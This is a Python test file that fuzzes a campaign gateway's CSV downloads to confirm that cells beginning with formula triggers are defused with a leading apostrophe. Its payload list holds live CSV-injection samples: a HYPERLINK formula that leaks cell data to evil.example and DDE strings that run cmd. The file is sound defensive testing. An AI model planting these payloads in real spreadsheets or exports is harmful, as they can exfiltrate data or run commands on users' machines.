"""Downloaded CSVs cannot run a formula in Excel (issue 15, part 2; OWASP "CSV injection"):
whatever text an uploaded list, PDS or a patient put in a cell, the cell Excel reads does not
start with ``=``, ``+``, ``-`` or ``@``, and it is the original text with at most a leading
apostrophe."""

import csv
import io

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ..conftest import ORG, Harness, running
from ..fakes import make_recipient, make_unsuccessful_row

TRIGGERS = ("=", "+", "-", "@")
FORMULAS = st.sampled_from(
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "=1+2",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1,1)*cmd|' /C calc'!A0",
        "\t=1+2",
        "\r=1+2",
        "plain",
        "",
    ]
)
CELLS = st.one_of(FORMULAS, st.text(st.characters(exclude_categories=["Cs"]), max_size=20))
# One gateway per test (its fake campaign gains a campaign per example): starting one per
# example would be most of the test's time.
FUZZ = settings(
    max_examples=40,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)


def parse(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def assert_defused(written: str, original: str) -> None:
    assert not written.startswith(TRIGGERS), written
    assert written in (original, "'" + original)


@FUZZ
@given(columns=st.lists(CELLS, min_size=1, max_size=4), rows=st.lists(st.lists(CELLS), max_size=5))
async def test_unsuccessful_rows_download_defuses_every_original_cell(
    gateway: Harness, columns: list[str], rows: list[list[str]]
) -> None:
    campaign = gateway.campaign.add_campaign(org_id=ORG)
    width = len(columns)
    fitted = [(row + [""] * width)[:width] for row in rows]
    list_id = gateway.campaign.add_list(
        campaign, columns, [make_unsuccessful_row(n, row) for n, row in enumerate(fitted, 1)]
    )

    response = await gateway.unsuccessful_rows(campaign.id, list_id)

    assert response.status_code == 200
    header, *body = parse(response.content)
    for written, original in zip(header[:width], columns, strict=True):
        assert_defused(written, original)
    assert len(body) == len(fitted)
    for written_row, original_row in zip(body, fitted, strict=True):
        for written, original in zip(written_row[:width], original_row, strict=True):
            assert_defused(written, original)


@FUZZ
@given(name=CELLS, contact=CELLS, reply=CELLS)
async def test_recipients_download_defuses_names_contacts_and_replies(
    gateway: Harness, name: str, contact: str, reply: str
) -> None:
    campaign = gateway.campaign.add_campaign(org_id=ORG)
    gateway.campaign.recipients[campaign.id] = [
        make_recipient(1, given_name=name, family_name=name, contact=contact, reply=reply)
    ]

    response = await gateway.client.get(
        f"/v1/campaigns/{campaign.id}/recipients.csv", headers=gateway.auth()
    )

    assert response.status_code == 200
    [_, row] = parse(response.content)
    for column, original in ((1, name), (2, name), (4, contact), (9, reply)):
        assert_defused(row[column], original)


async def test_a_formula_in_an_uploaded_cell_is_shown_not_run() -> None:
    async with running() as gateway:
        campaign = gateway.campaign.add_campaign(org_id=ORG)
        list_id = gateway.campaign.add_list(
            campaign,
            ["NHS Number", "=cmd"],
            [make_unsuccessful_row(1, ["9434765919", '=HYPERLINK("http://evil","x")'])],
        )

        response = await gateway.unsuccessful_rows(campaign.id, list_id)

    header, row = parse(response.content)
    assert header[:2] == ["NHS Number", "'=cmd"]
    assert row[:2] == ["9434765919", '\'=HYPERLINK("http://evil","x")']
